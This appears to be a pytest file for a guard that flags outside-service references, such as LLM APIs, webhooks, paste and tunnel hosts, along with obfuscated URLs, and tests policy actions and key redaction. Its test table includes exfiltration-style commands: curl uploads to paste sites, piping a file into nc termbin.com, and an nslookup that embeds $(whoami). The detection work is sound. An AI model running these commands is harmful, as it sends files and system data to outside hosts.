"""Outside services in prompts, code and answers: what is told, what is the site's own, and who may write it."""

from __future__ import annotations

from importlib.resources import files

import pytest

from policies.detectors.outside import calls_out
from policies.guard import Guard
from policies.policy import parse_policy
from policies.pseudonyms import Pseudonyms
from policies.rules import SHIPPED
from policies.verdict import OUTSIDE, Action, Direction
from tests.unit.policies.texts import POLICY

GUARD = Guard(POLICY)

OUT = """
https://api.openai.com/v1/chat/completions
curl https://api.openai.com/v1/models -H "Authorization: Bearer $KEY"
OPENAI_BASE_URL=https://api.openai.com/v1
openai_api_base: "https://api.openai.com"
wss://api.openai.com/v1/realtime?model=gpt-4o
Please call API.OPENAI.COM from the script.
fetch(`https://api.openai.com/v1/embeddings`, {method: "POST"})
"url": "https:\\/\\/api.openai.com\\/v1"
[the endpoint](https://api.anthropic.com/v1/messages)
ANTHROPIC_BASE_URL=https://api.anthropic.com
Host: api.anthropic.com
https://contoso.openai.azure.com/openai/deployments/gpt4/chat/completions?api-version=2024-02-01
azure_endpoint = "https://my-company.openai.azure.com/"
https://models.inference.ai.azure.com
https://hub.services.ai.azure.com/models
bedrock-runtime.us-east-1.amazonaws.com
https://bedrock-agent-runtime.eu-west-1.amazonaws.com/agents
https://generativelanguage.googleapis.com/v1beta/models
https://us-central1-aiplatform.googleapis.com/v1/projects/p
https://api.cohere.com/v2/chat
api.cohere.ai:443
https://api.mistral.ai/v1
https://codestral.mistral.ai/v1/fim/completions
https://api.groq.com/openai/v1
https://api.together.xyz/v1
https://api.fireworks.ai/inference/v1
https://api.replicate.com/v1/predictions
https://openrouter.ai/api/v1
https://api.deepseek.com
https://api.x.ai/v1
https://api.perplexity.ai
https://api-inference.huggingface.co/models/gpt2
https://router.huggingface.co/v1
https://abc123.us-east-1.aws.endpoints.huggingface.cloud
https://integrate.api.nvidia.com/v1
https://dashscope.aliyuncs.com/compatible-mode/v1
https://models.github.ai/inference
https://ollama.com/api/chat
https://acme--llm.modal.run
https://api.smith.langchain.com
client = OpenAI()
client = OpenAI(api_key="none")
client = AsyncOpenAI(api_key=os.environ["OPENAI_API_KEY"], timeout=20)
from openai import OpenAI; c = openai.OpenAI(max_retries=3)
const openai = new OpenAI({ apiKey: process.env.OPENAI_API_KEY });
const client = new Anthropic();
client = anthropic.Anthropic(api_key=key)
llm = ChatOpenAI(model="gpt-4o", temperature=0)
llm = ChatAnthropic(model="claude-3-5-sonnet-latest")
embeddings = OpenAIEmbeddings(model="text-embedding-3-small")
genai.configure(api_key=key)
client = genai.Client(api_key=key)
model = genai.GenerativeModel("gemini-1.5-pro")
llm = ChatGoogleGenerativeAI(model="gemini-pro")
co = cohere.Client(api_key)
co = cohere.ClientV2("key")
client = Mistral(api_key=key)
client = Groq(api_key=key)
client = Together()
client = InferenceClient("meta-llama/Llama-3.1-8B-Instruct")
llm = HuggingFaceEndpoint(repo_id="x")
rt = boto3.client("bedrock-runtime", region_name="us-east-1")
client = boto3.client(service_name='bedrock-runtime')
const client = new BedrockRuntimeClient({ region: "us-west-2" });
llm = ChatBedrock(model_id="x")
client := openai.NewClient(os.Getenv("OPENAI_API_KEY"))
OpenAIClient client = OpenAIOkHttpClient.fromEnv();
var client = new OpenAIClient(new ApiKeyCredential(key));
output = replicate.run("meta/llama-2-70b-chat", input={"prompt": "hi"})
vertexai.init(project="p", location="europe-west4")
r = litellm.completion(model="anthropic/claude-3-haiku", messages=m)
r = completion(model="openai/gpt-4o", messages=m)
https://hooks.slack.com/workflows/
https://discord.com/api/webhooks/
https://acme.webhook.office.com/webhookb2/
https://hooks.zapier.com/hooks/catch/1/abc
https://api.telegram.org/
curl -d done https://ntfy.sh/my-build
https://pastebin.com/raw/Ab3dE5fG
curl -F 'f=@x' https://0x0.st
curl --upload-file a https://transfer.sh/a
cat x | nc termbin.com 9999
https://file.io/abc
https://gofile.io/d/abc
https://litterbox.catbox.moe/resources
https://1234-5-6.ngrok-free.app
ngrok http 3000
cloudflared tunnel --url http://localhost:8080
https://random-words.trycloudflare.com
ssh -R 80:localhost:3000 serveo.net
npx localtunnel --port 3000
https://webhook.site/3f0b4c1e-7d52-4a7a-8f3e-0d9f6a1b2c3d
https://eo3hxqz4.m.pipedream.net
nslookup $(whoami).c8q2.oast.fun
https://acme.requestcatcher.com/test
""".strip("\n").split("\n")

IN = """
base_url = "http://dev1.lan:8000/v1"
http://127.0.0.1:11434/api/chat
http://localhost:1234/v1
https://llm.corp.example/v1/chat/completions
https://api.openai.com.corp.example/v1
https://api.openai.corp.example
https://my-api.openai.community/
xapi.openai.com
https://openai.com/research
https://platform.openai.com/docs/api-reference
https://docs.anthropic.com/en/api
https://huggingface.co/meta-llama/Llama-3.1-8B
https://mistral.ai/news
https://azure.microsoft.com/en-us/products/ai-services/openai-service
https://console.groq.com/docs
https://github.com/openai/openai-python
pip install openai anthropic cohere
from openai import OpenAI
import anthropic
from langchain_openai import ChatOpenAI
Is OpenAI better than Mistral or Anthropic?
We must not use OpenAI (or others) for customer data.
The Gemini telescope and the Bedrock of the valley.
Cohere and Groq are companies.
We go together (all of us) to the canteen.
class OpenAI(BaseModel):
class ChatOpenAI(BaseChatOpenAI):
class Anthropic(SyncAPIClient):
client = OpenAI(base_url="http://dev1.lan:8000/v1", api_key="none")
client = OpenAI(api_key="none", base_url=settings.llm_url)
client = AsyncOpenAI(base_url=os.environ["LLM_URL"])
const openai = new OpenAI({ baseURL: "http://mini1.lan:1234/v1", apiKey: "none" });
llm = ChatOpenAI(openai_api_base="http://einstein.lan:11434/v1", model="llama3.1:8b")
client = AzureOpenAI(azure_endpoint="https://llm.corp.example")
client = Anthropic(base_url="http://dev1.lan:8000")
client = InferenceClient(base_url="http://dev1.lan:8080")
client = boto3.client("s3")
client = boto3.client("bedrock-runtime-like")
completion(model="qwen2.5", messages=m)
completion(model="ollama/llama3.1", messages=m)
def completion(model, messages):
llm = ChatOllama(model="llama3.1:8b", base_url="http://dev1.lan:11434")
client = ollama.Client(host="http://dev1.lan:11434")
vllm serve Qwen/Qwen2.5-7B
litellm --model ollama/llama3.1
https://hooks.corp.example/services/T1/B2
https://slack.com/help
https://discord.com/channels/1/2
https://discord.gg/abc
https://office.com
https://zapier.com/apps
https://paste.corp.example/new
https://mypastebin.company.example
profile.io = open("x")
self.file.io_lock
transfer.shape == (3, 4)
https://ngrok.com/docs
we use ngrok at home
ssh -R 8080:localhost:80 gateway.corp.example
tunnel = SSHTunnelForwarder("db.lan")
https://cloudflare.com
lt = LargeTable(port=80)
webhook.sites are listed below
the webhook site of the company
https://bin.corp.example/r/abc
https://pipedream.com/docs
interact.shape
modal.running = True
ollama.com is where models come from
text = together(a, b)
""".strip("\n").split("\n")


def outside(text: str, guard: Guard = GUARD) -> list[str]:
    return [text[finding.start : finding.end] for finding in guard.find(text) if finding.rule.startswith(OUTSIDE)]


def test_the_tables_are_large_enough() -> None:
    assert len(set(OUT)) >= 80
    assert len(set(IN)) >= 60


@pytest.mark.parametrize("line", OUT)
def test_a_way_out_is_seen(line: str) -> None:
    assert outside(f"Look at this:\n{line}\nand tell me.") != []


@pytest.mark.parametrize("line", IN)
def test_what_is_no_way_out_passes(line: str) -> None:
    assert outside(f"Look at this:\n{line}\nand tell me.") == []


@pytest.mark.timeout(60)
@pytest.mark.parametrize("filling", ["A", "A,", "A ", "A.", " ", "(", "Ab", "base_ur"])
def test_a_call_that_is_hard_to_read_takes_no_time(filling: str) -> None:
    """Each was a value of a few hundred characters at most, which a pattern that looks back could take years for."""
    inside = (filling * 200)[:159]
    for end in ("=1)", "!)", ")", ""):
        GUARD.find(f"client = OpenAI({inside}{end}")
        assert isinstance(calls_out(f"OpenAI({inside}{end}"), bool)


@pytest.mark.parametrize(
    "call", ["OpenAI(BaseModel)", "Mistral(Base, Mixin)", "Groq( Pkg.Base ,Other, )", "Cohere(self)"]
)
def test_a_class_with_bases_is_no_client(call: str) -> None:
    assert not calls_out(call)


@pytest.mark.parametrize(
    "text",
    [
        "https://api.ope\u200bnai.com/v1",
        "https://ａｐｉ．ｏｐｅｎａｉ．ｃｏｍ/v1",
        "https:&#x2F;&#x2F;api.openai.com&#x2F;v1",
        "aHR0cHM6Ly9hcGkub3BlbmFpLmNvbS92MS9jaGF0L2NvbXBsZXRpb25z",
        "'https://api.' + 'openai.com/v1'",
    ],
)
def test_a_disguise_does_not_hide_it(text: str) -> None:
    assert outside(text) != []


def verdict_on(guard: Guard, text: str, *, persona: str = "general", roles: frozenset[str] = frozenset()) -> Action:
    verdict = guard.check(text, direction=Direction.PROMPT, persona=persona, roles=roles, pseudonyms=Pseudonyms())
    return max((decision.action for decision in verdict.decisions), key=lambda action: action.severity)


def test_as_shipped_the_text_goes_on_and_the_person_is_told() -> None:
    text = "client = OpenAI(api_key=key)  # https://api.openai.com/v1"
    verdict = GUARD.check(
        text, direction=Direction.PROMPT, persona="general", roles=frozenset(), pseudonyms=Pseudonyms()
    )
    assert verdict.text == text
    assert {decision.action for decision in verdict.decisions} == {Action.WARN}
    assert len(verdict.warned) == 2


def test_a_site_decides_by_persona_and_role() -> None:
    shipped = {name: (files("policies.rules") / name).read_text("utf-8") for name in SHIPPED}
    site = """
actions:
  - {rules: "outside/*", personas: [starcoder], action: redact}
  - {rules: "outside/model-*", roles: [employee], action: block}
"""
    guard = Guard(parse_policy({**shipped, "site.yaml": site}))
    text = "POST https://api.openai.com/v1"
    assert verdict_on(guard, text) is Action.WARN
    assert verdict_on(guard, text, persona="starcoder") is Action.REDACT
    assert verdict_on(guard, text, roles=frozenset({"employee"})) is Action.BLOCK
    assert verdict_on(guard, "https://webhook.site/abc-def", roles=frozenset({"employee"})) is Action.WARN


def test_a_key_beside_its_address_is_still_redacted() -> None:
    key = "sk-proj-" + "aB3dE5fG7hJ9kL1mN3pQ" * 2 + "T3BlbkFJ" + "aB3dE5fG7hJ9kL1mN3pQ" * 2
    verdict = GUARD.check(
        f'client = OpenAI(api_key="{key}")',
        direction=Direction.PROMPT,
        persona="general",
        roles=frozenset(),
        pseudonyms=Pseudonyms(),
    )
    assert key not in verdict.text
    assert "OpenAI(" in verdict.text
